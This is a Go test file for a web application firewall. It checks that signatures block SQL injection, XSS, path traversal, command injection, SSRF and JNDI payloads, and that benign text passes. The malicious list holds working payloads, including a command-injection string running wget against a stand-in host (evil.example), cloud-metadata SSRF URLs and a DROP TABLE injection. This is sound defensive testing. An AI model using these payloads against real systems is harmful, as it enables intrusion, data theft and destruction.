package demo

import (
	"io"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
)

// TestWAFRules checks the signatures directly, in a query value, a JSON
// body and (where the rule looks at headers) a header.
func TestWAFRules(t *testing.T) {
	wf := newWAF()
	malicious := []struct{ rule, payload string }{
		{"sqli", "' OR 1=1--"},
		{"sqli", "admin'--"},
		{"sqli", "' or 'a'='a"},
		{"sqli", "1 OR 1=1"},
		{"sqli", "1' UNION SELECT username, password FROM users--"},
		{"sqli", "1 UNION/**/ALL/**/SELECT null"},
		{"sqli", "1; DROP TABLE users"},
		{"sqli", "1' AND SLEEP(5)"},
		{"sqli", "'; WAITFOR DELAY '0:0:5'--"},
		{"sqli", "1 and (select 1 from information_schema.tables)"},
		{"xss", "<script>alert(1)</script>"},
		{"xss", "<SCRIPT SRC=//evil.example/x.js>"},
		{"xss", `"><img src=x onerror=alert(1)>`},
		{"xss", "<svg/onload=alert(1)>"},
		{"xss", "javascript:alert(document.domain)"},
		{"xss", "<iframe src=//evil.example>"},
		{"xss", "data:text/html;base64,PHNjcmlwdD4="},
		{"path-traversal", "../../etc/passwd"},
		{"path-traversal", `..\..\windows\win.ini`},
		{"path-traversal", "/etc/shadow"},
		{"path-traversal", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"},
		{"path-traversal", "..%252f..%252fetc"},
		{"path-traversal", "image.png%00.php"},
		{"command-injection", "127.0.0.1; ls -la"},
		{"command-injection", "x && whoami"},
		{"command-injection", "x | id"},
		{"command-injection", "$(whoami)"},
		{"command-injection", "`id`"},
		{"command-injection", "a;wget http://evil.example/x"},
		{"command-injection", "() { :; }; /bin/bash -c 'id'"},
		{"ssrf", "http://169.254.169.254/latest/meta-data/iam/"},
		{"ssrf", "http://metadata.google.internal/computeMetadata/v1/"},
		{"ssrf", "http://127.0.0.1:8080/admin"},
		{"ssrf", "http://localhost/"},
		{"ssrf", "http://[::1]:6379/"},
		{"ssrf", "http://user@127.1/"},
		{"ssrf", "gopher://10.0.0.1:25/_HELO"},
		{"ssrf", "file:///etc/hostname"},
		{"jndi", "${jndi:ldap://127.0.0.1/a}"},
		{"jndi", "${${lower:j}ndi:ldap://x/a}"},
		{"jndi", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"},
		{"sqli", "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -"},
		{"xss", `<a href="&#106;avascript:alert(1)">x</a>`},
		{"path-traversal", "..%c0%af..%c0%afetc/passwd"},
		{"command-injection", "127.0.0.1\nid"},
		{"test-signature", "malicious_payload"},
	}
	benign := []string{
		"O'Brien",
		"Seán O'Brien-D'Arcy",
		"it's 5 o'clock and we're late",
		"rock & roll",
		"Tom & Jerry; cats and dogs",
		"union members select a new chair",
		"please select the best option from the list",
		"drop me a line; update your address",
		"1 + 1 = 2 or 3 > 2",
		"email@example.com",
		"https://example.com/docs?page=2&sort=asc",
		"JavaScript: The Good Parts",
		"online=true",
		"<b>bold</b> and <i>italic</i>",
		"wait... what?",
		"C++ and C# developers",
		"50% off (today only)",
		"He said: \"sleep well\"",
		"price: $100",
		"the id is 42",
		"path/to/file.txt",
		"{\"nested\": [1, 2, 3]}",
		"rock &amp; roll &lt;3",
		"1 or 2 tickets",
		"line one\nid like to add a second line",
	}
	for _, tc := range malicious {
		t.Run(tc.rule+" "+tc.payload, func(t *testing.T) {
			req := httptest.NewRequest("GET", "/api/v1/test?q="+url.QueryEscape(tc.payload), nil)
			if got, where := wf.inspect(req, nil); got != tc.rule {
				t.Errorf("query: rule %q at %q, want %q", got, where, tc.rule)
			}
			body := `{"q":` + jsonString(tc.payload) + `}`
			req = httptest.NewRequest("POST", "/api/v1/test", strings.NewReader(body))
			req.Header.Set("Content-Type", "application/json")
			if got, _ := wf.inspect(req, []byte(body)); got == "" {
				t.Errorf("json body %s: not blocked", body)
			}
		})
	}
	for _, p := range benign {
		t.Run("benign "+p, func(t *testing.T) {
			req := httptest.NewRequest("GET", "/api/v1/test?q="+url.QueryEscape(p), nil)
			req.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36")
			req.Header.Set("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
			req.Header.Set("Cookie", "session=abc; id=5; theme=dark")
			req.Header.Set("X-Note", p)
			if got, where := wf.inspect(req, nil); got != "" {
				t.Errorf("query/header: blocked by %q at %q", got, where)
			}
			body := `{"q":` + jsonString(p) + `}`
			req = httptest.NewRequest("POST", "/api/v1/test", strings.NewReader(body))
			req.Header.Set("Content-Type", "application/json")
			if got, where := wf.inspect(req, []byte(body)); got != "" {
				t.Errorf("json body: blocked by %q at %q", got, where)
			}
			form := "q=" + url.QueryEscape(p)
			req = httptest.NewRequest("POST", "/api/v1/test", strings.NewReader(form))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			if got, where := wf.inspect(req, []byte(form)); got != "" {
				t.Errorf("form body: blocked by %q at %q", got, where)
			}
		})
	}
}

func jsonString(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < 0x20:
			b.WriteString(`\u00`)
			b.WriteByte("0123456789abcdef"[r>>4])
			b.WriteByte("0123456789abcdef"[r&0xf])
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

func TestRequestBodyStillReadable(t *testing.T) {
	body := strings.Repeat("a", wafBodyLimit+100)
	req := httptest.NewRequest("POST", "/api/v1/test", strings.NewReader(body))
	peeked := peekBody(req, wafBodyLimit)
	if len(peeked) != wafBodyLimit {
		t.Fatalf("peeked %d bytes, want %d", len(peeked), wafBodyLimit)
	}
	got, err := io.ReadAll(req.Body)
	if err != nil || string(got) != body {
		t.Errorf("body after peek: %d bytes, err %v; want the whole %d", len(got), err, len(body))
	}
}
